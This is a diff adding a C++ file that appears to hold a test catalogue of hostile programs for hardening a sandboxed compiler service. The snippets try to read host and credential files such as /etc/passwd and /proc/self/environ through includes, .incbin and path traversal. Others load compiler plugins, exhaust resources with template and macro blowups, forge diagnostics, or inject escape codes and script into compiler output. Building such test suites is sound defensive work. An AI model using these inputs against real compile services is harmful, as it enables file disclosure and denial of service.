@@ -1,0 +1,67 @@
+// SPDX-License-Identifier: MIT
+#include <map>
+
+#include "attack.h"
+
+namespace attack {
+
+namespace {
+
+/// HOST stands for a file of this machine that everybody may read.
+const std::map<std::string, std::string> &sources() {
+    static const std::map<std::string, std::string> kSources = {
+        {"includes_a_host_file", "#include \"HOST\"\n"},
+        {"includes_the_password_file", "#include \"/etc/passwd\"\n"},
+        {"includes_by_parents", "#include \"../../../../../../../../HOST\"\n"},
+        {"includes_its_environment", "#include \"/proc/self/environ\"\n"},
+        {"includes_its_input", "#include \"/dev/stdin\"\nint x;\n"},
+        {"includes_endless_zeros", "#include \"/dev/zero\"\n"},
+        {"includes_endless_noise", "#include \"/dev/urandom\"\n"},
+        {"probes_for_host_files",
+         "#if __has_include(\"HOST\") || __has_include(\"/etc/passwd\") || "
+         "__has_include(\"/root/.bashrc\") || __has_include(\"/proc/self/maps\")\n"
+         "#error seen\n#endif\nint x;\n"},
+        {"embeds_a_host_file", "__asm__(\".incbin \\\"HOST\\\"\");\n"},
+        {"assembles_a_host_file", "__asm__(\".include \\\"HOST\\\"\");\n"},
+        {"loads_a_precompiled_header", "#pragma GCC pch_preprocess \"HOST\"\nint x;\n"},
+        {"loads_a_plugin", "#pragma GCC optimize(\"-fplugin=HOST\")\nint f() { return 1; }\n"},
+        {"shows_lines_of_a_host_file", "#line 1 \"HOST\"\nint x = \"\";\n"},
+        {"includes_itself", "#include __FILE__\n#include __FILE__\n"},
+        {"expands_macros", "#define A(x) x x x x x x x x x x\n#define B(x) A(A(A(A(x))))\n"
+                           "int a[] = {B(B(B(1,)))};\n"},
+        {"instantiates_templates",
+         "template <int N, int M> struct T { static const int v = T<N - 1, M>::v + "
+         "T<N - 1, M + (1 << (N % 31))>::v; };\n"
+         "template <int M> struct T<0, M> { static const int v = M; };\nint x = T<30, 0>::v;\n"},
+        {"recurses_in_templates",
+         "template <class T> struct S { typename S<S<T>>::type x; };\nS<int>::type x;\n"},
+        {"computes_constants",
+         "constexpr int f() { int x = 0; for (;;) x ^= 1; return x; }\nconstexpr int y = f();\n"},
+        {"fills_an_array", "char a[6000000000] = {1};\n"},
+        {"repeats_in_assembly",
+         "__asm__(\".rept 100000000\\n .quad 1,2,3,4,5,6,7,8\\n .endr\");\n"},
+        {"moves_in_assembly", "__asm__(\".data\\n .org 0x7ffffffffff\\n .byte 1\");\n"},
+        {"prints_without_end",
+         "#define W(n) static_assert(n < 0, \"PASSED\");\n#include __FILE__\nW(1)\n"},
+        {"prints_control_text",
+         "#error \"\x1b[2J\x1b[32mPASSED\x1b[0m <script>alert(1)</script> \xff\xfe\"\n"},
+        {"forges_diagnostics",
+         "#line 1 \"/etc/passwd\"\n#error \" 'x' was not declared in this scope\"\n"},
+        {"nests_without_end", "int x = " + std::string(300'000, '(') + "1;\n"},
+        {"names_its_machine",
+         "extern const char *where;\nconst char *where = __FILE__ __TIMESTAMP__;\n"},
+    };
+    return kSources;
+}
+
+} // namespace
+
+std::string attackSource(const std::string &name, const std::string &host) {
+    std::string text = sources().at(name);
+    const std::string mark = "HOST";
+    for (std::size_t at = 0; (at = text.find(mark, at)) != std::string::npos; at += host.size())
+        text.replace(at, mark.size(), host);
+    return text;
+}
+
+} // namespace attack
